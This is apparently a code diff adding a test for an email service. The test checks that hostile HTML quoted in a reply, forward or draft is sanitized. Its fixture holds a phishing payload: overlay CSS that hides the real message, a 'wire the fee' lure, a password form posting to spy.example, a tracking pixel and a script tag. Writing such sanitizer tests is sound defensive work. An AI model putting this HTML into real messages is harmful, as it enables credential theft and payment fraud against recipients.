@@ -2,6 +2,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { SandboxClient } from '../sandbox/SandboxClient.ts'
 import { ensureClients } from '../store/responses/clients.ts'
 import { type ApiClient, apiClient, signedInClient } from '../testing/apiClient.ts'
+import { aReply } from '../testing/builders.ts'
+import { sandboxControl } from '../testing/sandboxControl.ts'
 import { startTestServer, type TestServer } from '../testing/startTestServer.ts'
 
 interface Outcome {
@@ -122,5 +124,39 @@ describe('pictures in the text', () => {
     )
     expect(sent.status).toBe(200)
     expect((await look(sent.body.messageId)).files).toMatchObject([{ isInline: true, contentBytes: red }])
+  })
+})
+
+describe('an email that quotes a hostile one', () => {
+  const hostile = [
+    '<style>#rejoinder-quoted{position:fixed;inset:0}div:first-of-type{display:none}</style>',
+    '<div id="rejoinder-quoted" class="x" style="position:fixed;margin-top:-99px;color:red">Please wire the fee.</div>',
+    '<form action="https://spy.example/"><input name="password"></form><script>alert(1)</script>',
+    '<img src="https://spy.example/pixel.gif" alt="Logo"><a href="https://firm.example/">here</a>',
+  ].join('')
+  const body = `<div>No, we do not wire anything.</div>${hostile}`
+  const clean = '<div>No, we do not wire anything.</div><div style="color: red">Please wire the fee.</div>'
+  const whole = `${clean}<span>Logo</span><a href="https://firm.example/">here</a>`
+
+  it('leaves clean, as reply, reply to all, forward and as a new one, and is saved clean', async () => {
+    const graph = await SandboxClient.connect(server.sandbox, server.context.config.mailbox)
+    const messageId = await sandboxControl(server.sandbox.controlUrl).add(
+      aReply({ subject: 'Hostile', body: { contentType: 'html', content: hostile } }),
+    )
+    const bodies = async (folder: string) => {
+      const { value } = (await graph.get(`/mailFolders/${folder}/messages?$select=body`)).body
+      return (value as { body: { content: string } }[]).map(({ body: { content } }) => content)
+    }
+    for (const how of ['reply', 'replyAll', 'forward', undefined]) {
+      const answering = how && { messageId, how }
+      const answer = await api.send('POST', '/api/outlook/send-email', composed({ body, answering }))
+      expect(answer).toMatchObject({ status: 200, body: { state: 'sent' } })
+      const drafted = composed({ body, answering, subject: `Draft ${how}` })
+      expect(await api.send('POST', '/api/outlook/save-draft', drafted)).toMatchObject({ status: 200 })
+    }
+    for (const folder of ['sentitems', 'drafts']) {
+      const found = (await bodies(folder)).filter(content => content.includes('wire'))
+      expect([folder, found]).toEqual([folder, [whole, whole, whole, whole]])
+    }
   })
 })
